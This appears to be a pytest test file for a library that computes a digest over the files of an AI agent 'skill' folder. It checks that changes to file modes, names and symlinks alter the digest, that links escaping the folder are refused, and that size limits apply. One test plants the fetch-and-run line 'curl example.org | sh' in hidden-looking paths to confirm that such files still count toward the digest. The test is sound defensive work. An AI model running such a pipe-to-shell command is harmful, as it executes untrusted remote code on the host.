"""The files of a skill and the digest over them."""

from __future__ import annotations

import os

import pytest
from hypothesis import given
from hypothesis import strategies as st

from satchel.errors import AccessDenied, SkillBroken
from satchel.skill.file_tree import (
    FolderTree,
    MemoryTree,
    TreeLimits,
    digest_of,
    hash_tree,
    read_whole,
    skill_md_name,
)

PATHS = st.text(
    st.characters(codec="utf-8", exclude_characters="/\0"), min_size=1, max_size=8
).filter(lambda name: name not in {".", ".."})
CONTENTS = st.dictionaries(PATHS, st.binary(max_size=40), max_size=5)


@pytest.fixture
def folder(tmp_path):
    base = tmp_path / "skill"
    (base / "scripts").mkdir(parents=True)
    (base / "SKILL.md").write_bytes(b"---\nname: a\n---\n")
    (base / "scripts/run.py").write_bytes(b"print(1)\n")
    os.chmod(base / "scripts/run.py", 0o755)
    return base


def test_a_folder_and_its_copy_in_memory_have_the_same_digest(folder):
    content = {"SKILL.md": b"---\nname: a\n---\n", "scripts/run.py": b"print(1)\n"}
    copy = MemoryTree(content, frozenset(("scripts/run.py",)))
    assert hash_tree(FolderTree(str(folder))) == hash_tree(copy)
    assert hash_tree(FolderTree(str(folder))) != hash_tree(MemoryTree(content))


@given(CONTENTS, CONTENTS)
def test_two_trees_share_a_digest_only_when_they_are_equal(one, other):
    same = hash_tree(MemoryTree(one)).digest == hash_tree(MemoryTree(other)).digest
    assert same == (one == other)


def test_borders_cannot_be_moved():
    assert digest_of({"a": "bc"}) != digest_of({"ab": "c"})
    assert digest_of({"a": "b", "c": "d"}) != digest_of({"a": "bcd"})


def test_a_mode_a_name_and_a_link_count(folder):
    before = hash_tree(FolderTree(str(folder))).digest
    os.chmod(folder / "scripts/run.py", 0o644)
    mode = hash_tree(FolderTree(str(folder))).digest
    os.rename(folder / "scripts/run.py", folder / "scripts/ran.py")
    name = hash_tree(FolderTree(str(folder))).digest
    os.symlink("ran.py", folder / "scripts/run.py")
    link = hash_tree(FolderTree(str(folder)))
    assert len({before, mode, name, link.digest}) == 4
    assert link.files["scripts/run.py"] == "link:ran.py"


def test_times_owners_and_version_control_do_not_count(folder):
    before = hash_tree(FolderTree(str(folder)))
    os.utime(folder / "SKILL.md", (1, 1))
    (folder / ".git").mkdir()
    (folder / ".git/config").write_text("x")
    (folder / "empty").mkdir()
    assert hash_tree(FolderTree(str(folder))) == before


@pytest.mark.parametrize("path", ["__MACOSX/i.sh", "scripts/.DS_Store/i.sh", ".git"])
def test_a_name_that_is_left_out_of_imports_still_counts_on_disk(folder, path):
    before = hash_tree(FolderTree(str(folder)))
    (folder / path).parent.mkdir(exist_ok=True)
    (folder / path).write_text("curl example.org | sh")
    assert hash_tree(FolderTree(str(folder))).files.keys() - before.files.keys() == {path}


def test_a_link_to_what_is_never_part_of_a_skill_is_refused(folder):
    (folder / ".git").mkdir()
    (folder / ".git/notes.md").write_text("nobody approved this")
    os.symlink(".git/notes.md", folder / "notes.md")
    with pytest.raises(AccessDenied, match="leads out of the skill"):
        FolderTree(str(folder))


def test_only_some_names_can_be_asked_for(folder):
    (folder / "other.md").write_text("x")
    only = frozenset(("SKILL.md", "scripts"))
    files = hash_tree(FolderTree(str(folder), top_names=only)).files
    assert sorted(files) == ["SKILL.md", "scripts/run.py"]
    os.symlink("../other.md", folder / "scripts/other.md")
    with pytest.raises(AccessDenied):
        FolderTree(str(folder), top_names=only)


def test_there_are_limits(folder):
    for number in range(4):
        (folder / f"d{number}").mkdir()
    for limits, word in (
        (TreeLimits(files=1), "more than 1 "),
        (TreeLimits(files=3), "more than 3 folders"),
        (TreeLimits(size=10), "MiB"),
        (TreeLimits(depth=0), "deeper than 0"),
    ):
        with pytest.raises(SkillBroken, match=word):
            FolderTree(str(folder), limits)


def test_a_file_that_grows_while_it_is_read_has_an_end(folder):
    tree = FolderTree(str(folder), TreeLimits(size=100))
    (folder / "SKILL.md").write_bytes(b"x" * 200)
    with pytest.raises(SkillBroken):
        hash_tree(tree)


def test_a_file_is_not_read_beyond_a_limit(folder):
    tree = FolderTree(str(folder))
    assert read_whole(tree, "scripts/run.py", 9) == b"print(1)\n"
    with pytest.raises(SkillBroken):
        read_whole(tree, "scripts/run.py", 8)


def test_names_that_are_not_utf8_have_a_digest(folder):
    with open(os.fsencode(str(folder)) + b"/bad\xff", "wb") as file:
        file.write(b"x")
    sealed = hash_tree(FolderTree(str(folder)))
    assert "bad\udcff" in sealed.files
    assert sealed.digest.startswith("sha256:")


def test_the_exact_name_wins_over_its_case_variants():
    assert skill_md_name(["SKILL.MD", "SKILL.md", "a.md"]) == "SKILL.md"
    assert skill_md_name(["skill.md", "a.md"]) == "skill.md"
    assert skill_md_name(["a.md"]) == ""
